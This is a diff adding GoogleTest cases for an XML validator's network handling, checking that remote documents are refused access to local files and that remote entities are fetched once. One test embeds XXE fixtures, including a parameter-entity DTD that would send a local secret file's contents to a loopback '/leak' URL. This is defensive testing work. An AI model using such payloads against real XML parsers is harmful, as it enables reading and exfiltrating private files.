@@ -4,11 +4,13 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <cstdlib>
 #include <memory>
 #include <string>
 #include <vector>
 
+#include "e2e/FolderMatrix.h"
 #include "support/LoopbackPort.h"
 #include "support/LoopbackServer.h"
 #include "support/ProcessRunner.h"
@@ -207,6 +209,75 @@ TEST_F(NetworkTest, OtherUrlSchemesAreRefused) {
   const std::string url = "ftp://127.0.0.1/doc.xml";
   expectRejected(url, {loadFailure(url, "the URL scheme 'ftp' is not supported "
                                         "(only file, http and https are)")});
+}
+
+TEST_F(NetworkTest, ServedFolderMatrixResolvesAgainstEachDocument) {
+  LoopbackServer tree;
+  const auto documents = e2e::writeFolderMatrix(
+      [&tree](const std::string& name, const std::string& content) { tree.addFile(name, content); });
+  for (const e2e::MatrixDocument& document : documents) {
+    const std::string url = tree.url("/" + e2e::escapePath(document.path));
+    SCOPED_TRACE(url);
+    const ProcessResult result = runVexlor(VEXLOR_BINARY, url);
+    EXPECT_EQ(document.valid ? 0 : failureExit, result.exitCode);
+    EXPECT_EQ(std::string::npos, result.standardError.find("failed to load")) << result.standardError;
+  }
+}
+
+// A served document may name local files, but they are never opened, and so
+// never read into the report nor sent on to a server.
+TEST_F(NetworkTest, RemoteResourcesMayNotReferToLocalFiles) {
+  testsupport::TemporaryDirectory local;
+  const std::string secret = local.file("secret.txt");
+  testsupport::writeFile(secret, "SECRET");
+  const std::string secretUrl = "file://" + secret;
+  const std::string schemaStart = "<xs:schema xmlns:xs='http://www.w3.org/2001/XMLSchema'>";
+  LoopbackServer origin;
+  origin.addFile("entity.xml", "<!DOCTYPE d [<!ELEMENT d ANY><!ENTITY e SYSTEM '" + secretUrl + "'>]>\n<d>&e;</d>\n");
+  // The parameter-entity trick: the file's text would go out in a URL.
+  origin.addFile("pe.dtd", "<!ENTITY % file SYSTEM '" + secretUrl + "'>\n"
+                           "<!ENTITY % eval \"<!ENTITY &#x25; send SYSTEM '" + origin.url("/leak?") + "%file;'>\">\n"
+                           "%eval;\n%send;\n");
+  origin.addFile("pe.xml", "<!DOCTYPE d SYSTEM 'pe.dtd'>\n<d/>\n");
+  origin.addFile("hint.xml", "<d xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
+                             "xsi:noNamespaceSchemaLocation='" + secretUrl + "'/>\n");
+  origin.addFile("include.xsd", schemaStart + "<xs:include schemaLocation='" + secretUrl + "'/></xs:schema>");
+  origin.addFile("include.xml", "<d xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
+                                "xsi:noNamespaceSchemaLocation='include.xsd'/>\n");
+  const std::string refusal = "failed to load \"" + secret + "\": ";
+  const struct {
+    const char* document;
+    std::string expected;
+  } cases[] = {
+      {"/entity.xml", refusal + "the remote resource \"" + origin.url("/entity.xml") + "\" may not refer"},
+      {"/pe.xml", refusal + "the remote resource \"" + origin.url("/pe.dtd") + "\" may not refer"},
+      {"/hint.xml", refusal + "the remote resource \"" + origin.url("/hint.xml") + "\" may not refer"},
+      {"/include.xml", refusal + "a remote schema may not refer to a local file"},
+  };
+  for (const auto& row : cases) {
+    SCOPED_TRACE(row.document);
+    const ProcessResult result = runVexlor(VEXLOR_BINARY, origin.url(row.document));
+    EXPECT_EQ(failureExit, result.exitCode);
+    EXPECT_NE(std::string::npos, result.standardError.find(row.expected)) << result.standardError;
+    EXPECT_EQ(std::string::npos, result.standardError.find("SECRET")) << result.standardError;
+  }
+  for (const std::string& request : origin.requests()) {
+    EXPECT_EQ(std::string::npos, request.find("leak")) << request;
+  }
+}
+
+TEST_F(NetworkTest, RemoteEntityIsFetchedOnceForAllItsReferences) {
+  LoopbackServer counted;
+  counted.addFile("one.ent", "x");
+  std::string references;
+  for (int i = 0; i < 2000; ++i) {
+    references += "&one;";
+  }
+  counted.addFile("doc.xml", "<!DOCTYPE d [<!ELEMENT d (#PCDATA)><!ENTITY one SYSTEM 'one.ent'>]>\n<d>" +
+                                 references + "</d>\n");
+  expectValid(counted.url("/doc.xml"));
+  const std::vector<std::string> requests = counted.requests();
+  EXPECT_EQ(1, std::count(requests.begin(), requests.end(), "/one.ent"));
 }
 
 } // namespace
